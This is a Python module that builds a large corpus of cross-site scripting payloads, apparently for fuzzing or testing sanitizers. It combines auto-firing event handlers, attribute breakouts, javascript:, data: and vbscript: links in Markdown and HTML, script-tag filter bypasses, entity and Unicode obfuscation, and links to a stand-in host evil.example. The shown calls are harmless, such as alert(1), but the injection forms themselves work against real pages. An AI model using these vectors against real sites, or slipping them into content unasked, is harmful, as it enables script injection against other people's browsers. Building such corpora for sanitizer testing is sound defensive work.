"""Things people type to make another person's browser run their script: put together from parts, the same each time."""

import base64
import itertools
from collections.abc import Iterator

CALLS = ("alert(1)", "confirm`1`", "top['pro'+'mpt'](1)", "window.print()")
# An element, what makes its event happen by itself, and the event.
BY_THEMSELVES = (
    ("img", "src=x", "onerror"),
    ("svg", "", "onload"),
    ("video", "src=x", "onerror"),
    ("audio", "src=x", "onerror"),
    ("input", "autofocus", "onfocus"),
    ("textarea", "autofocus", "onfocus"),
    ("details", "open", "ontoggle"),
    ("body", "", "onload"),
    ("iframe", "src=about:blank", "onload"),
    ("style", "", "onload"),
    ("object", "data=x", "onerror"),
    ("marquee", "", "onstart"),
)
WHEN_TOUCHED = (
    ("p", "", "onmouseover"), ("a", "href=#", "onclick"), ("div", "tabindex=0", "onfocus"),
    ("button", "", "onclick"), ("b", "", "onpointerenter"), ("select", "", "onchange"),
)  # fmt: skip
SPACES = (" ", "/", "\t", "\n", "\x0c", " x=y ")
QUOTES = ('"', "'", "")
BEFORE = ("", '">', "'>", "</textarea>", "</title>", "</p>", "-->", "]]>", "</script>", "<b ", "&lt;/p&gt;")
SCHEMES = (
    "javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "java\nscript:", "javascript&colon;",
    "&#106;avascript:", "&#x6a;avascript:", "\x01javascript:", "javascript\u200b:", "vbscript:", "blob:", "filesystem:",
    "view-source:javascript:", "data:text/html,", "data:text/html;base64,", "//evil.example/", "\\\\evil.example\\",
)  # fmt: skip


def cased(word: str) -> str:
    """EvErY second letter is large."""
    return "".join(letter.upper() if place % 2 == 0 else letter for place, letter in enumerate(word))


def entities(text: str) -> str:
    """Each letter as a number."""
    return "".join(f"&#x{ord(letter):x};" for letter in text)


def escaped(call: str) -> str:
    """The first letter as JavaScript may write it."""
    return f"\\u{ord(call[0]):04x}{call[1:]}"


def elements() -> Iterator[str]:
    """An element with an event: every event with every way to write a call, the other parts in turn."""
    spaces, quotes, before = (itertools.cycle(parts) for parts in (SPACES, QUOTES, BEFORE))
    forms = (str, entities, escaped)
    names = (str, cased)
    for (tag, more, event), call, form, name in itertools.product((*BY_THEMSELVES, *WHEN_TOUCHED), CALLS, forms, names):
        space, quote = next(spaces), next(quotes)
        yield f"{next(before)}<{name(tag)}{space}{more}{space}{name(event)}={quote}{form(call)}{quote}>"


def attributes() -> Iterator[str]:
    """Out of an attribute, and into another."""
    for quote, (_tag, _more, event), call in itertools.product(QUOTES, BY_THEMSELVES, CALLS):
        yield f"x{quote} {event}={call} autofocus tabindex=0 y={quote}"


def addresses() -> Iterator[str]:
    """A link, as Markdown and as HTML."""
    links = (
        "[read me]({})",
        "[read me](<{}>)",
        '[read me]({} "title")',
        "<{}>",
        "[read me]: {}\n[read me]",
        "![picture]({})",
        "[![picture](x)]({})",
        '<a href="{}">read me</a>',
        "<form action='{}'><button>go</button></form>",
        "<iframe src={}></iframe>",
    )
    for link, scheme, call in itertools.product(links, SCHEMES, CALLS[:3]):
        target = f"<script>{call}</script>" if scheme.startswith("data:") else call
        if "base64" in scheme:
            target = base64.b64encode(target.encode()).decode()
        yield link.format(scheme + target)


def scripts() -> Iterator[str]:
    """Elements that are scripts, or bring one."""
    wholes = (
        "<script>{}</script>",
        "<script>{}",
        "<<script>{}//<</script>",
        "<scr<script>ipt>{}</script>",
        "<svg><script>{}</script></svg>",
        "<math><mtext><script>{}</script></mtext></math>",
        "<template><script>{}</script></template>",
        "<noscript><p title='</noscript><script>{}</script>'>",
        "<iframe srcdoc='<script>{}</script>'></iframe>",
        "<meta http-equiv=refresh content='0;url=javascript:{}'>",
        "<base href='javascript:{}//'>",
        "`<script>{}</script>`",
        "    <script>{}</script>",
        "> <script>{}</script>",
        "- <script>{}</script>",
        "**<script>{}</script>**",
        '[x](x "<script>{}</script>")',
        '[x](x" onclick="{})',
        "<style>@import 'javascript:{}';</style>",
        "{{{{ ''.__class__ }}}}<script>{}</script>",
        "${{{}}}<!--<script>{}</script>-->",
    )
    for whole, call in itertools.product(wholes, CALLS):
        yield whole.replace("{}", call).replace("{{", "{").replace("}}", "}")


def all_vectors() -> list[str]:
    """Every one, once."""
    return list(dict.fromkeys(itertools.chain(scripts(), elements(), attributes(), addresses())))


def some_vectors(count: int) -> list[str]:
    """A spread of them, as many of each kind as its share."""
    every = all_vectors()
    return every[:: len(every) // count][:count]


def on_one_line(vector: str) -> str:
    """As far as a field of one line takes it."""
    return " ".join(vector.split())


def in_texts(vectors: list[str], *, together: int = 15) -> Iterator[str]:
    """Several to a text, each a paragraph of its own: few enough that Markdown is still looked for."""
    for start in range(0, len(vectors), together):
        yield "\n\n".join([*vectors[start : start + together], "**as Markdown**"])
